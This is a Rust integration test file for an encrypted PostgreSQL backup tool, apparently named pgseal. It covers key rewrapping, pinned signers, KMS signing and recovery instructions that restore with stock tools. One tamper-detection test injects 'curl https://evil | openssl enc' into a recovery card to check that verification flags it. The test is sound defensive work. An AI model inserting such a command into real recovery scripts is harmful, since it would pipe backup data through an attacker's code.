//! New recipients, signatures, and the recovery instructions that tell how to do without this program.

use super::{Fixture, comparable, openssl, text};
use crate::support::aws::{Ministack, REGION};
use crate::support::pgseal::Pgseal;
use crate::support::postgres::Server;
use crate::support::restore::dump;
use serde_json::json;
use std::path::{Path, PathBuf};
use std::process::Command;

/// A new key pair in the fixture's folder: private and public file.
pub(super) fn pair(fixture: &Fixture, name: &str) -> (PathBuf, PathBuf) {
    let private = fixture.folder.path().join(format!("{name}.key"));
    let public = fixture.folder.path().join(format!("{name}.pem"));
    openssl(&["genrsa", "-out", text(&private), "2048"]);
    openssl(&["pkey", "-in", text(&private), "-pubout", "-out", text(&public)]);
    (private, public)
}

fn signer(fixture: &Fixture, name: &str) -> (PathBuf, PathBuf) {
    let private = fixture.folder.path().join(format!("{name}.key"));
    let public = fixture.folder.path().join(format!("{name}.pem"));
    openssl(&[
        "genpkey",
        "-algorithm",
        "EC",
        "-pkeyopt",
        "ec_paramgen_curve:P-256",
        "-out",
        text(&private),
    ]);
    openssl(&["pkey", "-in", text(&private), "-pubout", "-out", text(&public)]);
    (private, public)
}

#[test]
fn a_new_recipient_opens_what_the_old_one_rewrapped() {
    let fixture = Fixture::new(json!({}));
    let (new_key, new) = pair(&fixture, "new");
    let (fetched, old_key) = (fixture.fetched(), fixture.key());
    let before = std::fs::read(fetched.join(fixture.name_of("dump"))).expect("the dump");
    let said = Fixture::offline(&["rewrap", text(&fetched), "--key", &old_key, "--recipient", text(&new)]);
    assert_eq!(
        (said.code, &said.receipt()["generation"]),
        (0, &json!(2)),
        "{}{}",
        said.stdout,
        said.stderr
    );
    assert!(std::fs::read(fetched.join(fixture.name_of("dump"))).expect("the dump") == before);

    let expected = String::from_utf8(dump(&fixture.server, "app")).expect("UTF-8");
    for key in [text(&new_key), &old_key] {
        // The old manifest stays valid until it is removed, so the old key still opens the backup by it.
        let said = Fixture::offline(&["decrypt", text(&fetched), "--key", key]);
        assert!(said.code == 0 && comparable(&said.stdout) == expected, "{}", said.stderr);
        assert_eq!(Fixture::offline(&["verify", text(&fetched), "--key", key]).code, 0);
    }
    let listing = Fixture::offline(&["list", text(&fetched)]).receipt();
    assert_eq!(
        (&listing["backups"][0]["generation"], &listing["leftovers"]),
        (&json!(2), &json!([])),
        "{listing}"
    );

    // Retired: then only the new key opens it.
    std::fs::remove_file(fetched.join(fixture.name_of("manifest"))).expect("removed");
    assert_eq!(Fixture::offline(&["verify", text(&fetched), "--key", text(&new_key)]).code, 0);
    assert_eq!(Fixture::offline(&["verify", text(&fetched), "--key", &old_key]).code, 7);
}

#[test]
fn in_s3_nothing_is_overwritten_and_recipients_can_stay() {
    let fixture = Fixture::new(json!({}));
    let (new_key, new) = pair(&fixture, "new");
    let before: Vec<_> = fixture
        .bucket
        .keys()
        .into_iter()
        .map(|key| (fixture.bucket.get(&key), key))
        .collect();
    for generation in [2, 3] {
        let said = fixture.run(&[
            "rewrap",
            &fixture.at_s3(),
            "--key",
            &fixture.key(),
            "--recipient",
            text(&new),
            "--keep",
        ]);
        assert_eq!(
            (said.code, &said.receipt()["generation"]),
            (0, &json!(generation)),
            "{}",
            said.stderr
        );
        assert_eq!(said.receipt()["recipients"].as_array().map(Vec::len), Some(2));
    }
    assert!(before.iter().all(|(content, key)| fixture.bucket.get(key) == *content));
    for key in [text(&new_key), &fixture.key()] {
        let said = fixture.run(&["verify", &fixture.at_s3(), "--key", key]);
        assert_eq!(said.code, 0, "{}", said.stdout);
    }
}

/// The same order with a signer in the environment.
fn signed(fixture: &Fixture, private: &str, stem_time: &str) -> String {
    let mut order = crate::support::invariants::event(&fixture.server, "app", &fixture.bucket);
    let public = openssl(&["pkey", "-pubout", "-in", &fixture.key()]);
    order["public_key"] = json!(String::from_utf8(public).expect("PEM"));
    order["scheduled_time"] = json!(stem_time);
    let run = Pgseal::backup(&order).envs(fixture.bucket.env()).envs(fixture.server.env());
    let receipt = run.env("PGSEAL_SIGNING_KEY", private).run().complete();
    format!(
        "s3://{}/{}",
        fixture.bucket.name,
        receipt["backups"][0]["stem"].as_str().expect("a stem")
    )
}

#[test]
fn a_pinned_signer_is_demanded() {
    let fixture = Fixture::new(json!({}));
    let ((ours, pinned), (_, others)) = (signer(&fixture, "ours"), signer(&fixture, "others"));
    let backup = signed(&fixture, text(&ours), "2026-11-24T02:00:00Z");
    let verify = |backup: &str, signer: &str| fixture.run(&["verify", backup, "--key", &fixture.key(), "--signer", signer]);
    let good = verify(&backup, text(&pinned));
    assert_eq!(good.code, 0, "{}", good.stdout);
    for (backup, signer) in [(backup.as_str(), &others), (&fixture.at_s3(), &pinned)] {
        let bad = verify(backup, text(signer));
        assert_eq!(
            (bad.code, &bad.receipt()["error"]["code"]),
            (7, &json!("tampered")),
            "{}",
            bad.stdout
        );
    }
    // A signed backup stays signed.
    let (_, new) = pair(&fixture, "new");
    let arguments = ["rewrap", &backup, "--key", &fixture.key(), "--recipient", text(&new)];
    assert_eq!(fixture.run(&arguments).code, 2);
    let run = Pgseal::new(&arguments)
        .envs(fixture.bucket.env())
        .env("PGSEAL_SIGNING_KEY", text(&ours));
    assert_eq!(run.run().code, 0);
    assert_eq!(verify(&backup, text(&pinned)).code, 0);
}

#[test]
fn a_key_in_kms_signs() {
    let fixture = Fixture::new(json!({}));
    let aws = Ministack::shared();
    let (arn, public) = aws.signing_key();
    let der = fixture.folder.path().join("signer.der");
    std::fs::write(&der, public).expect("written");
    let mut order = crate::support::invariants::event(&fixture.server, "app", &fixture.bucket);
    order["public_key"] = json!(String::from_utf8(openssl(&["pkey", "-pubout", "-in", &fixture.key()])).expect("PEM"));
    order["scheduled_time"] = json!("2026-11-24T02:00:00Z");
    let run = Pgseal::backup(&order)
        .envs(aws.env())
        .envs(fixture.bucket.env())
        .envs(fixture.server.env());
    run.env("PGSEAL_SIGNING_KEY", &arn).run().complete();
    let backup = format!("s3://{}/backups/app_20261124T020000Z", fixture.bucket.name);
    let said = fixture.run(&["verify", &backup, "--signer", text(&der)]);
    assert_eq!(said.code, 0, "{}", said.stdout);
    // A key that KMS does not have stops the backup before it begins. Of a day on which no test runs: a backup of today stands.
    order["scheduled_time"] = json!("2001-01-01T02:00:00Z");
    let run = Pgseal::backup(&order)
        .envs(aws.env())
        .envs(fixture.bucket.env())
        .envs(fixture.server.env());
    let missing = format!("arn:aws:kms:{REGION}:000000000000:key/00000000-0000-0000-0000-000000000000");
    run.env("PGSEAL_SIGNING_KEY", missing).run().failed("aws_failed", 4);
    assert!(!fixture.bucket.keys().iter().any(|key| key.contains("20010101")));
}

/// Runs every block of recovery instructions but those for one table alone, which `selected` follows, in order, in a folder with the objects and the private key, against this server.
pub(super) fn follow(server: &Server, key: &str, folder: &Path, card: &str) {
    let card = std::fs::read_to_string(folder.join(card)).expect("the recovery instructions");
    let is_sum = |line: &&str| {
        line.split_once("  ")
            .is_some_and(|(sum, _)| sum.len() == 64 && sum.bytes().all(|byte| byte.is_ascii_hexdigit()))
    };
    let objects = card.lines().filter(is_sum).count();
    std::fs::copy(key, folder.join("private_key.pem")).expect("the key");
    let mut script = String::new();
    let mut inside = false;
    for line in card.lines().take_while(|line| *line != "## One table alone") {
        match line {
            "```sh" => inside = true,
            "```" => inside = false,
            line if inside => script.push_str(&format!("{line}\n")),
            _ => {}
        }
    }
    let psql = server.psql_command("postgres");
    let output = Command::new("bash")
        .args(["-euo", "pipefail", "-c", &script])
        .current_dir(folder)
        .envs(psql.get_envs().filter_map(|(name, value)| Some((name, value?))))
        .env("PATH", format!("{}:/usr/local/bin:/usr/bin:/bin", server.bin().display()))
        .output()
        .expect("bash starts");
    let (said, complained) = (String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr));
    assert!(output.status.success(), "{said}\n{complained}\n{script}");
    assert!(objects >= 2, "{card}");
    assert_eq!(said.lines().filter(|line| line.ends_with(": OK")).count(), objects + 1, "{said}");
}

#[test]
fn the_recovery_card_restores_by_stock_tools_alone() {
    for asked in [
        json!({"globals": true}),
        json!({"compression": "zstd"}),
        json!({"compression": "none"}),
        json!({"format": "legacy"}),
    ] {
        let fixture = Fixture::new(asked);
        follow(&fixture.server, &fixture.key(), &fixture.fetched(), &fixture.name_of("card"));
        crate::support::restore::assert_same(&fixture.server, "app", "restored");
    }
}

#[test]
fn a_signed_backups_card_checks_the_signature() {
    let fixture = Fixture::new(json!({}));
    let (ours, pinned) = signer(&fixture, "ours");
    let backup = signed(&fixture, text(&ours), "2026-11-24T02:00:00Z");
    let stem = backup.rsplit('/').next().expect("a stem");
    let folder = fixture.folder.path().join("signed");
    std::fs::create_dir(&folder).expect("a folder");
    for key in fixture.bucket.keys().iter().filter(|key| key.contains(stem)) {
        std::fs::write(folder.join(key.rsplit('/').next().expect("a name")), fixture.bucket.get(key)).expect("written");
    }
    std::fs::copy(&pinned, folder.join("signer.pem")).expect("copied");
    follow(&fixture.server, &fixture.key(), &folder, &format!("{stem}.RECOVER.md"));
}

/// The instructions stopped half way: `role "app_owner" does not exist`, and a half of the database stayed.
#[test]
fn the_recovery_card_restores_where_the_roles_are_missing() {
    let owned = "create role app_owner; create role \"a \"\"reader\"; alter table plain owner to app_owner; \
                 grant select on plain to \"a \"\"reader\", dumper";
    for globals in [false, true] {
        let fixture = Fixture::with(owned, json!({"globals": globals}));
        let elsewhere = Server::start();
        follow(&elsewhere, &fixture.key(), &fixture.fetched(), &fixture.name_of("card"));
        let owner = "select tableowner || has_table_privilege('a \"reader', 'plain', 'select') from pg_tables where tablename = 'plain'";
        assert_eq!(elsewhere.psql("restored", owner).trim(), "app_ownertrue");
    }
}

/// The instructions told to fetch from the local folder in which the new recipients were given.
#[test]
fn the_recovery_card_of_new_recipients_knows_the_place_in_s3() {
    let fixture = Fixture::new(json!({}));
    let (_, new) = pair(&fixture, "new");
    let fetched = fixture.fetched();
    let stem = fixture.name_of("card").replace(".RECOVER.md", "");
    let lines = |generation: u32| {
        let said = Fixture::offline(&["rewrap", text(&fetched), "--key", &fixture.key(), "--recipient", text(&new)]);
        assert_eq!(said.code, 0, "{}", said.stderr);
        std::fs::read_to_string(fetched.join(format!("{stem}.RECOVER.{generation}.md"))).expect("the recovery instructions")
    };
    let fetching = format!(
        "    aws s3 cp s3://{}/backups/ . --recursive --exclude '*' --include '{stem}.*'\n",
        fixture.bucket.name
    );
    assert!(lines(2).contains(&fetching));
    // One that somebody changed is not believed, and the one before it is.
    std::fs::write(
        fetched.join(format!("{stem}.RECOVER.2.md")),
        fetching.replace(&fixture.bucket.name, "other"),
    )
    .expect("written");
    assert!(lines(3).contains(&fetching));
    for card in [format!("{stem}.RECOVER.md"), format!("{stem}.RECOVER.3.md")] {
        std::fs::remove_file(fetched.join(card)).expect("removed");
    }
    let unknown = lines(4);
    assert!(!unknown.contains("aws s3") && unknown.contains("was not known"), "{unknown}");
    assert!(unknown.contains(&format!("`{stem}.`")), "{unknown}");
}

/// `--recipient` was told that its `public_key` holds a private key.
#[test]
fn a_private_key_as_recipient_is_told_by_its_file() {
    let fixture = Fixture::new(json!({}));
    let (private, _) = pair(&fixture, "new");
    let fetched = fixture.fetched();
    let said = Fixture::offline(&["rewrap", text(&fetched), "--key", &fixture.key(), "--recipient", text(&private)]);
    let told = format!("private_key_given: --recipient: {} holds a private key", private.display());
    assert!(said.code == 2 && said.stderr.contains(&told), "{}", said.stderr);
    assert!(
        !said.stderr.contains("public_key` ") && said.stderr.contains("openssl pkey"),
        "{}",
        said.stderr
    );
}

#[test]
fn a_changed_card_is_found() {
    let fixture = Fixture::new(json!({}));
    let card = fixture.fetched().join(fixture.name_of("card"));
    let words = std::fs::read_to_string(&card).expect("the recovery instructions");
    std::fs::write(&card, words.replace("openssl enc", "curl https://evil | openssl enc")).expect("written");
    for key in [&[][..], &["--key", &fixture.key()]] {
        let said = Fixture::offline(&[&["verify", text(&fixture.fetched())], key].concat());
        assert_eq!(
            (said.code, &said.receipt()["error"]["code"]),
            (7, &json!("tampered")),
            "{}",
            said.stdout
        );
    }
}

#[test]
fn without_a_key_the_keys_of_older_generations_are_looked_at_too() {
    let fixture = Fixture::new(json!({}));
    let (_, new) = pair(&fixture, "new");
    let fetched = fixture.fetched();
    let said = Fixture::offline(&["rewrap", text(&fetched), "--key", &fixture.key(), "--recipient", text(&new)]);
    assert_eq!(said.code, 0, "{}", said.stderr);
    let deep: &[&str] = &["--deep"];
    for ask in [&[], deep] {
        let said = Fixture::offline(&[&["verify", text(&fetched)], ask].concat());
        assert_eq!(said.code, 0, "{}", said.stdout);
    }
    // The old key object, whose recipient still counts on it: other bytes are seen by a deep look, a loss by any.
    let old = fetched.join(fixture.name_of("key"));
    let mut bytes = std::fs::read(&old).expect("the key object");
    bytes[0] ^= 1;
    std::fs::write(&old, bytes).expect("written");
    let tampered = |ask: &[&str]| {
        let said = Fixture::offline(&[&["verify", text(&fetched)], ask].concat());
        assert_eq!(
            (said.code, &said.receipt()["error"]["code"]),
            (7, &json!("tampered")),
            "{}",
            said.stdout
        );
    };
    tampered(deep);
    std::fs::write(&old, b"").expect("written");
    tampered(&[]);
}

/// Both were silent about it.
#[test]
fn decrypt_and_rewrap_say_that_a_backup_is_partial() {
    let fixture = Fixture::new(json!({"exclude_tables": "none_such*"}));
    let (_, new) = pair(&fixture, "new");
    let fetched = fixture.fetched();
    let said = Fixture::offline(&["decrypt", text(&fetched), "--key", &fixture.key()]);
    assert_eq!(said.code, 0, "{}", said.stderr);
    assert!(said.stderr.contains("only a part of the database"), "{}", said.stderr);
    let said = Fixture::offline(&["rewrap", text(&fetched), "--key", &fixture.key(), "--recipient", text(&new)]);
    assert_eq!(said.receipt()["partial"], true, "{}", said.stdout);
}
